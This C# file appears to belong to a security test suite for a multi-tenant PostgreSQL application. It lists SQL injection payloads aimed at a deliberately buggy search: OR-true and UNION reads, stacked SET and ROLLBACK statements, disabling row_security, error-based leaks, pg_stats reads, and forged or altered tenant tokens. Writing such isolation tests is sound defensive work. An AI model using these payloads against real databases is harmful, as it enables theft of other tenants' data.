namespace Workspace.BreakIn;

/// <summary>What can be pasted into the buggy search.</summary>
internal static class InjectionAttacks
{
    public static IEnumerable<IAttack> All { get; } =
    [
        new InjectionAttack(
            "or-true",
            "Read everything with OR true",
            "Makes the condition of the buggy search true for every row of the table.",
            _ => "%' OR true --"),
        new InjectionAttack(
            "union",
            "UNION with other tables",
            "Appends the memory and the messages of everybody to the search's own rows.",
            _ => "%' UNION ALL SELECT 'memory', text FROM memory_entries UNION ALL SELECT author, text FROM messages --"),
        new InjectionAttack(
            "set-context",
            "Name another tenant in the same statement",
            "Sets the tenant context to the victim's id with set_config and reads behind it in a LATERAL join.",
            stage => Injected.ReadAs($"'{stage.Victim.Id}'")),
        new InjectionAttack(
            "forged-token",
            "Forge a token",
            "Writes a context for the victim with the right connection and time, signed with a key of its own.",
            stage => Injected.ReadAs(Injected.Forged(stage))),
        new InjectionAttack(
            "altered-token",
            "Alter the own token",
            "Puts the victim's ids into the attacker's own genuine token and keeps the signature.",
            stage => Injected.ReadAs(
                $"replace(replace(current_setting('tenancy.ctx'), '{stage.Attacker.Id.Value:N}', '{stage.Victim.Id.Value:N}'), 'u{stage.Attacker.Key}', 'u{stage.Victim.Key}')")),
        new StolenTokenAttack(),
        new InjectionAttack(
            "stacked-set",
            "Stack a SET behind the search",
            "Ends the statement, sets the context to the victim's id, and reads in a third statement.",
            stage => $"'; SET tenancy.ctx = '{stage.Victim.Id}'; SELECT title, body FROM documents --"),
        new InjectionAttack(
            "stacked-rollback",
            "Stack a ROLLBACK behind the search",
            "Ends the transaction to shake the context off, and reads without one.",
            _ => "'; ROLLBACK; SELECT title, body FROM documents --"),
        new InjectionAttack(
            "dynamic-sql",
            "SQL within SQL",
            "Lets query_to_xml run a statement of its own after row_security was switched off beside it.",
            _ => "%' UNION ALL SELECT set_config('row_security', 'off', true), query_to_xml('SELECT * FROM documents', true, true, '')::text --"),
        new InjectionAttack(
            "telling-error",
            "Make an error tell",
            "Casts every text to a number, so that the error message quotes a row that the condition should have hidden.",
            stage => $"%' AND tenant_id <> '{stage.Attacker.Key}' AND CAST(body AS integer) = 0 --"),
        new InjectionAttack(
            "count",
            "Count rows by tenant",
            "Asks how many rows the victim has, and everybody else.",
            _ => "%' UNION ALL SELECT tenant_id::text, count(*)::text FROM messages GROUP BY tenant_id UNION ALL SELECT tenant_id::text, count(*)::text FROM documents GROUP BY tenant_id --"),
        new InjectionAttack(
            "planner-statistics",
            "Read the planner's statistics",
            "Reads the most common values that PostgreSQL sampled from everybody's rows.",
            _ => "%' UNION ALL SELECT tablename || '.' || attname, concat_ws(' ', most_common_vals::text, histogram_bounds::text) FROM pg_stats WHERE schemaname = 'public' --"),
        new SpyingAttack(),
    ];
}
